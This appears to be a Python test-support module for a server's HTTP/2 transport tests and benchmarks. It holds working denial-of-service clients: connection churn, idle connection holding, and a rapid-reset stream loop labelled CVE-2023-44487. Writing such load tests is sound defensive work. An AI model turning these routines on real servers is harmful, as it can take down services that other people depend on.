"""Hostile HTTP/2 peers for the transport tests and the bench: connection churn, idle
connections, a rapid-reset loop, and the server's own figures read from outside."""

from __future__ import annotations

import asyncio
import ssl
from urllib.parse import urlsplit

import h2.config
import h2.connection
import h2.exceptions

from tests.support.h2_client import unverified_h2_context


def preface() -> bytes:
    """The client connection preface and an empty SETTINGS frame."""
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    return conn.data_to_send()


async def open_tls(url: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A TLS connection offering h2 to the server of `url`."""
    parts = urlsplit(url)
    context: ssl.SSLContext | None = unverified_h2_context() if parts.scheme == "https" else None
    return await asyncio.open_connection(parts.hostname, parts.port, ssl=context)


async def connect_and_close(url: str) -> None:
    """TLS handshake, HTTP/2 preface, close: the cheapest connection a client can make."""
    _, writer = await open_tls(url)
    writer.write(preface())
    await writer.drain()
    writer.transport.abort()  # an attacker waits for no close_notify


async def churn(url: str, count: int, parallel: int = 16) -> int:
    """`count` connect-preface-close rounds, `parallel` at a time; returns how many failed."""
    failed = 0
    pending = iter(range(count))

    async def worker() -> None:
        nonlocal failed
        for _ in pending:
            try:
                await connect_and_close(url)
            except (OSError, ssl.SSLError):
                failed += 1

    await asyncio.gather(*(worker() for _ in range(parallel)))
    return failed


async def rapid_reset(url: str, streams: int, path: str = "/getServerTime.json") -> None:
    """Open `streams` requests on one connection, resetting each at once (CVE-2023-44487),
    then read until the server closes the connection or goes quiet."""
    reader, writer = await open_tls(url)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    authority = urlsplit(url).netloc
    head = [(":method", "GET"), (":path", path), (":scheme", "https"), (":authority", authority)]
    try:
        for sent in range(streams):
            stream_id = conn.get_next_available_stream_id()
            conn.send_headers(stream_id, head, end_stream=True)
            conn.reset_stream(stream_id)
            writer.write(conn.data_to_send())
            if sent % 100 == 99:
                await writer.drain()
                if writer.is_closing() or reader.at_eof():
                    break  # the server sent GOAWAY and closed
        while await asyncio.wait_for(reader.read(65536), 5):
            pass
    except (OSError, ssl.SSLError, TimeoutError, h2.exceptions.ProtocolError):
        pass
    finally:
        writer.transport.abort()


async def hold_tls(url: str, source: str = "127.0.0.1") -> asyncio.StreamWriter:
    """A TLS connection from `source` that sends the preface and then idles."""
    parts = urlsplit(url)
    _, writer = await asyncio.open_connection(
        parts.hostname,
        parts.port,
        ssl=unverified_h2_context(),
        local_addr=(source, 0),
    )
    writer.write(preface())
    await writer.drain()
    return writer
